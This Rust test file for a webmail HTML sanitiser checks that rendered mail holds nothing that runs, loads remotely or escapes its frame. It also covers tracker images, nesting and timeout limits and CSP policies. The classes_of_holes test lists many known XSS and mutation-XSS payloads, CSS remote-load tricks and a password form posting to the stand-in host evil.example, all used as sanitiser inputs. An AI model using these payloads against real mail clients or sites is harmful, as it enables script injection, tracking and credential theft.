use crate::letter;
use mail::show::{CSP_ALLOWED, CSP_BLOCKED, Images, Shown, html, within};
use proptest::prelude::*;
use std::time::{Duration, Instant};

pub(crate) fn page(body: &str) -> String {
    format!("From: a@x.example\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{body}")
}

pub(crate) fn shown(body: &str, images: Images) -> Shown {
    html(page(body).as_bytes(), images)
}

/// What is between `<body>` and `</body>`, without the box around each part.
pub(crate) fn inside(shown: &Shown) -> &str {
    let start = shown.html.find("<body>").expect("a body") + 6;
    let end = shown.html.rfind("</body>").expect("its end");
    shown.html[start..end].strip_prefix("<div>").and_then(|rest| rest.strip_suffix("</div>")).unwrap_or(&shown.html[start..end])
}

/// Walks the finished page as a browser would and fails on anything that runs, loads or leaves its frame.
pub(crate) fn assert_harmless(document: &str, what: &str) {
    let start = document.find("<body>").expect("a body");
    let body = &document[start + 6..];
    let bytes = body.as_bytes();
    let mut at = 0;
    while let Some(step) = bytes[at..].iter().position(|b| *b == b'<') {
        at += step + 1;
        let closing = bytes.get(at) == Some(&b'/');
        let name_at = at + usize::from(closing);
        let name: String = body[name_at..].chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(!name.is_empty(), "a bare < in {what}");
        at = name_at + name.len();
        let allowed = "a abbr acronym address article b bdi bdo big blockquote body br caption center cite code col colgroup dd del details dfn \
                       dir div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr html i img ins kbd li main mark ol p pre q s samp \
                       section small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr";
        assert!(allowed.split_whitespace().any(|tag| tag == name), "<{name}> in {what}");
        // Attributes: ` name="value"`, nothing else, up to the `>`.
        while bytes.get(at) != Some(&b'>') {
            assert_eq!(bytes.get(at), Some(&b' '), "a crooked tag <{name}> in {what}");
            let attribute: String = body[at + 1..].chars().take_while(char::is_ascii_lowercase).collect();
            at += 1 + attribute.len();
            assert!(body[at..].starts_with("=\""), "an attribute without a value in {what}");
            let end = at + 2 + body[at + 2..].find('"').expect("the end of the value");
            let value = body[at + 2..end].to_ascii_lowercase();
            at = end + 1;
            assert!(
                (attribute.as_str(), value.as_str()) == ("class", "text")
                    || (name.as_str(), attribute.as_str(), value.as_str()) == ("details", "class", "quote")
                    || !attribute.starts_with("on") && !matches!(attribute.as_str(), "id" | "class" | "name" | "background" | "srcset"),
                "{attribute} in {what}"
            );
            match attribute.as_str() {
                "href" => {
                    assert!(
                        ["http:", "https:", "mailto:", "tel:"].iter().any(|scheme| value.starts_with(scheme)),
                        "href={value} in {what}"
                    );
                }
                "src" => assert!(
                    name == "img" && ["http:", "https:", "data:image/"].iter().any(|scheme| value.starts_with(scheme)),
                    "src={value} in {what}"
                ),
                "style" => {
                    for word in ["url", "expression", "var(", "image", "src(", "@", "\\", "position", "behavior", "binding", "<", "/*"] {
                        assert!(!value.contains(word), "style={value} in {what}");
                    }
                }
                _ => {}
            }
        }
        at += 1;
    }
}

/// Whether a picture in the page is fetched from elsewhere. Words that only look like one are text.
pub(crate) fn fetches(document: &str) -> bool {
    document.match_indices("<img").any(|(at, _)| {
        let (mut quoted, tag) = (false, &document[at..]);
        let end = tag.find(|c| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        tag[..end.unwrap_or(tag.len())].contains(" src=\"http")
    })
}

/// [SEC-06] One vector per class of hole found in webmail programs (mail.md §3.3), each under both settings.
#[test]
fn classes_of_holes() {
    let vectors = [
        "<script>alert(1)</script><SCRIPT SRC=//evil.example/x></SCRIPT>",
        "<img src=x onerror=alert(1)><p onclick='alert(1)'>x</p><body onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a><a href=\"jav&#x09;ascript:alert(1)\">x</a><a href='data:text/html,<script>1</script>'>x</a>",
        "<a href=' &#1;javascript:alert(1)'>x</a><a href='vbscript:x'>x</a><a href='cid:x'>x</a><a href='//evil.example'>x</a>",
        // Foreign content and what mutates when it is parsed twice.
        "<svg><script>alert(1)</script></svg><svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><textarea><img src=x></textarea>",
        // Animated attributes.
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><set attributeName='style' to='background:url(https://evil.example/)'/></svg>",
        // Remote loads.
        "<body background='https://evil.example/x.png'><table background=//evil.example/x><td background='https://evil.example'>x</table>",
        "<div style=\"background:url(https://evil.example/x)\">x</div><div style='background:url(//evil.example'>x</div>",
        "<div style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</div><div style='background:src(\"https://evil.example\")'>x</div>",
        "<div style='--x:url(https://evil.example);background:var(--x)'>x</div><p style='list-style:url(https://evil.example/x)'>x",
        "<svg><rect fill='url(https://evil.example/#x)'/></svg><video poster=https://evil.example/x src=y></video><audio src=https://evil.example>",
        "<link rel=stylesheet href=https://evil.example/x><meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
        "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe><object data=https://evil.example></object><embed src=https://evil.example>",
        "<img srcset='https://evil.example/x 1x'><picture><source srcset=https://evil.example/x></picture><input type=image src=https://evil.example>",
        // Style sheets and overlays.
        "<style>@import 'https://evil.example/x'; body{display:none} a[href^=x]{background:url(https://evil.example)}</style>",
        "<div style='position:fixed !important;top:0;left:0;width:100%;height:100%;z-index:9'>log in here</div>",
        "<div style='width:expression(alert(1))'>x</div><div style='behavior:url(x);-moz-binding:url(x)'>x</div>",
        "<div style='color:red;} body{background:url(https://evil.example)'>x</div><div style='color:\\75\\72\\6c(x)'>x</div>",
        // Forms, names and ids that clobber.
        "<form action=https://evil.example><input name=password><button>x</button></form><a id=x name=getElementById>x</a>",
        // Comments, conditionals, CDATA, processing instructions, broken tags.
        "<!--[if mso]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=1?><!doctype html><img/src=x/onerror=alert(1)><<script>alert(1)//<</script><p title='a>b' <img src=x onerror=1>",
        "<a href=\"https://x.example\" target=_top rel=opener>x</a><img src='cid:none' usemap=#m><map name=m><area href=javascript:1></map>",
        "<img src=\"https://x.example/&quot; onerror=&quot;alert(1)\"><p title=\"&quot;><script>alert(1)</script>\">x</p>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html;base64,PHN2Zz4='><img src='data:image/png;base64,\"onload=1'>",
        "<plaintext><script>alert(1)</script>",
    ];
    for vector in vectors {
        let blocked = shown(vector, Images::Blocked);
        assert_harmless(&blocked.html, vector);
        let inside = inside(&blocked);
        assert!(!inside.contains(" src=\"http"), "a remote load: {vector}\n{inside}");
        for word in ["alert(1)</script", "evil.example/x.png", "@import"] {
            assert!(!inside.contains(word), "{word} in {inside}");
        }
        let allowed = shown(vector, Images::Allowed);
        assert_harmless(&allowed.html, vector);
        assert!(!allowed.html.contains("url("), "{vector}");
    }
}

#[test]
fn letters_keep_their_looks() {
    let shown = shown(
        "<body bgcolor='#eeeeee' style='margin:0'><table width=600 cellpadding='4'><tr><td style='color:#c00;font:bold 14px Arial'>Caf&eacute;&nbsp;&euro;\
         <td align=center>twee</table><p>een<p>twee<ul><li>a<li>b</ul><a href='https://x.example/?a=1&amp;b=2'>link</a></body>",
        Images::Blocked,
    );
    insta::assert_snapshot!(inside(&shown), @r##"<div bgcolor="#eeeeee" style="margin:0"><table width="600" cellpadding="4"><tbody><tr><td style="color:#c00;font:bold 14px Arial">Café&nbsp;€</td><td align="center">twee</td></tr></tbody></table><p>een</p><p>twee</p><ul><li>a</li><li>b</li></ul><a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">link</a></div>"##);
    assert!(!shown.text_only && !shown.remote_images);
}

#[test]
fn remote_images_wait_for_the_reader() {
    let blocked = html(&letter("tracker"), Images::Blocked);
    assert!(blocked.remote_images);
    assert_eq!(blocked.trackers, 2);
    assert!(!blocked.html.contains("shop.example"));
    assert!(blocked.html.contains("alt=\"Aanbieding\""));
    let allowed = html(&letter("tracker"), Images::Allowed);
    assert_eq!((allowed.remote_images, allowed.trackers), (true, 2));
    assert!(allowed.html.contains("src=\"https://shop.example/groot.jpg\" referrerpolicy=\"no-referrer\""));
    assert_eq!(allowed.html.matches("shop.example").count(), 1);
    assert_harmless(&allowed.html, "tracker");
    assert_eq!(shown("<img src=https://x.example/a>", Images::Blocked).trackers, 0);
}

#[test]
fn pictures_that_came_along_are_shown() {
    let shown = html(&letter("inline-images"), Images::Blocked);
    assert_eq!(shown.html.matches("src=\"data:image/png;base64,iVBOR").count(), 1);
    assert!(!shown.html.contains("svg") && !shown.html.contains("cid:") && !shown.remote_images);
    assert_harmless(&shown.html, "inline-images");
}

#[test]
fn text_letters() {
    let shown = html(&letter("quotes-and-signature"), Images::Blocked);
    assert!(shown.text_only && !shown.remote_images);
    assert!(shown.html.contains("color-scheme\" content=\"light dark\""));
    assert!(shown.html.contains("<blockquote>Kan dit?<blockquote>Oudere vraag</blockquote></blockquote>"));
    assert!(shown.html.contains("<a href=\"mailto:bas@kantoor.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">"));
    assert_harmless(&shown.html, "quotes-and-signature");
    let hostile = html(
        b"From: a@x.example\r\n\r\n<script>alert(1)</script> https://x.example/\"><img src=x onerror=alert(1)> &lt;script>",
        Images::Allowed,
    );
    assert_harmless(&hostile.html, "hostile text");
    assert!(hostile.html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    for name in ["no-header", "empty", "truncated-multipart", "charset-chinese"] {
        assert!(html(&letter(name), Images::Blocked).text_only, "{name}");
    }
    assert!(html(&letter("no-header"), Images::Blocked).html.contains("Gewoon tekst zonder kop."));
}

#[test]
fn pages_too_deep_are_shown_as_text() {
    for (name, body, deep) in [
        ("deep", "<div>".repeat(40_000) + "diep", true),
        ("quotes", "<blockquote>".repeat(300) + "diep", true),
        ("hidden in comments", "<div><!--</div>-->".repeat(40_000) + "diep", true),
        ("hidden in attributes", "<div title='</div>'>".repeat(40_000) + "diep", true),
        ("hidden in styles", "<svg><style>".to_owned() + &"<div>".repeat(40_000), false),
        ("misnested", "<b><div></b>".repeat(20_000) + "diep", false),
        ("unclosed formatting", "<p><font color=red>x".repeat(1_000), true),
        ("paragraphs", "<p>x".repeat(20_000), false),
        ("cells", format!("<table>{}</table>", "<tr><td><b>x".repeat(5_000)), false),
        ("items", format!("<ul>{}</ul>", "<li>x".repeat(5_000)), false),
        ("attributes", format!("<p {}>x", (0..50_000).fold(String::new(), |out, n| out + &format!("a{n} "))), false),
        ("angles", "<".repeat(500_000), false),
        ("comments", "<!--".repeat(200_000), false),
        ("styles", "<style>".repeat(100_000), false),
        ("ampersands", "&".repeat(500_000), false),
    ] {
        let start = Instant::now();
        let shown = shown(&body, Images::Blocked);
        assert_eq!(shown.text_only, deep, "{name}");
        assert_harmless(&shown.html, name);
        assert!(start.elapsed() < Duration::from_secs(30), "{name} took {:?}", start.elapsed());
    }
}

#[test]
fn long_pages_are_cut() {
    let shown = shown(&"<p>é</p>".repeat(600_000), Images::Blocked);
    assert!(shown.html.len() < 3 << 20);
}

/// Whatever takes too long is shown as text, and the caller does not wait.
#[tokio::test]
async fn out_of_time() {
    let raw = bytes::Bytes::from(page(&"<p>lang <b>verhaal</b></p>".repeat(50_000)));
    let shown = within(Duration::ZERO, raw.clone(), Images::Blocked).await;
    assert!(shown.text_only && shown.html.contains("lang verhaal"));
    assert!(!within(Duration::from_secs(60), raw, Images::Blocked).await.text_only);
}

#[test]
fn policies() {
    for policy in [CSP_BLOCKED, CSP_ALLOWED] {
        assert!(
            policy.starts_with("sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox; default-src 'none'; img-src data:")
        );
        // Of our own origin, so that the reading pane can measure it; harmless, because nothing in it runs.
        assert!(!policy.contains("allow-scripts") && policy.contains("frame-ancestors 'self'"));
    }
    assert!(!CSP_BLOCKED.contains("http") && CSP_ALLOWED.contains("img-src data: https: http:;"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_pages(
        pieces in prop::collection::vec(
            prop::sample::select(vec![
                "<", ">", "</", "/>", "<p", "<div", "<img ", "<a ", "<svg>", "<math>", "<style>", "</style>", "<script>", "</script>", "<!--", "-->",
                "--!>", "<![CDATA[", "]]>", "<table>", "<td>", "</table>", "<b>", "</b>", "src=", "href=", "style=", "onerror=", "\"", "'", "=", " ",
                "https://x.example/", "javascript:alert(1)", "cid:x", "data:image/png;base64,AAAA", "url(", ")", "color:red;", "position:fixed",
                "background:", "&quot;", "&lt;", "&#60;", "&#x22;", "\\75rl", "\0", "é", "<textarea>", "<noscript>", "title=", "<xmp>", "x",
            ]),
            0..50,
        )
    ) {
        let body = pieces.concat();
        for images in [Images::Blocked, Images::Allowed] {
            let shown = shown(&body, images);
            assert_harmless(&shown.html, &body);
            prop_assert!(images == Images::Allowed || !inside(&shown).contains(" src=\"http"));
        }
    }
}
